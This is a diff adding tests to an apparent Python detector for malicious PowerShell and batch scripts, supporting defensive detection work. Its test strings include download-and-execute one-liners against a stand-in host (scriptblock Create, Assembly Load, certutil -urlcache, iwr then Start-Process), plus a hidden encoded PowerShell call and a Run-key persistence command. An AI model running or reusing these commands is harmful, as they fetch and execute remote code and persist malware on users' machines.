@@ -24,10 +24,19 @@ def test_what_is_downloaded_and_run_is_seen(text: str, line: int) -> None:
     assert ("fetch_and_run", line) in read(text)
 
 
+def test_what_is_downloaded_into_a_variable_and_run_lines_later_is_seen() -> None:
+    text = "$s = Invoke-RestMethod https://kiln.example/x\n\n$b = [scriptblock]::Create($s)\n"
+    assert ("fetch_and_run", 3) in read(text)
+    assert ("fetch_and_run", 3) not in read(text.replace("Create($s)", "Create($t)"))
+
+
 def test_a_batch_file_is_read() -> None:
     assert ("decode_and_run", 1) in read("po^wershell -w hidden -e aQBlAHgAIABrAGkAbABuAA==", "a.cmd")
     assert ("fetch_and_run", 3) in read(
         "set U=https://kiln.example/x\r\ncurl -o fire.exe %U%\r\nstart fire.exe\r\n", "a.bat"
+    )
+    assert ("fetch_and_run", 2) in read(
+        'powershell -nop -c "iwr https://kiln.example/x.exe -o %TEMP%\\x.exe"\r\nstart /b %TEMP%\\x.exe\r\n', "a.bat"
     )
     assert ("shell_persistence", 1) in read(
         r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d b", "a.bat"
@@ -44,6 +53,10 @@ def test_a_batch_file_is_read() -> None:
         ("a.ps1", "& ([scriptblock]::Create((iwr https://kiln.example/x)))", "fetch_and_run"),
         ("a.ps1", "&('{1}{0}' -f 'x','ie') (irm https://kiln.example/x)", "fetch_and_run"),
         ("a.ps1", "Start-BitsTransfer https://kiln.example/x.exe x.exe; ./x.exe", "fetch_and_run"),
+        ("a.ps1", "$s=(New-Object Net.WebClient).DownloadString($u);&([scriptblock]::Create($s))", "fetch_and_run"),
+        ("a.ps1", "[Reflection.Assembly]::Load((iwr $u).Content).EntryPoint.Invoke($null, $null)", "fetch_and_run"),
+        ("a.ps1", "iwr https://kiln.example/x.exe -OutFile x.exe; Start-Process x.exe", "fetch_and_run"),
+        ("a.bat", "certutil -urlcache -f https://kiln.example/x.exe x.exe & start x.exe", "fetch_and_run"),
         ("a.ps1", "[Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQ'))", "decode_and_run"),
     ],
 )
@@ -56,6 +69,11 @@ def test_ordinary_scripts_show_nothing() -> None:
         "$v = '1'\nWrite-Host \"it's $v\"\nInvoke-WebRequest https://kiln.example/a.zip -OutFile a.zip\nExpand-Archive a.zip\n"
     )
     assert not read('cmd /c "npm run build"\nset A=%B%\nfire_%VERSION%_x64.exe --quiet\n', "a.bat")
+    assert ("fetch_and_run", 2) not in read(
+        "$r = irm https://kiln.example/latest\nStart-Process notepad $r.body; Write-Host $r\niex $local"
+    )
+    assert ("fetch_and_run", 1) not in read("certutil -hashfile x.exe SHA256 & start x.exe", "a.bat")
+    assert not read('powershell -c "Expand-Archive a.zip"\nstart a.html\n', "a.bat")
     assert not read("'{0}-{1}' -f $name, $version\nAdd-Type -Path (Join-Path $PSScriptRoot 'a.dll')\n")
 
 
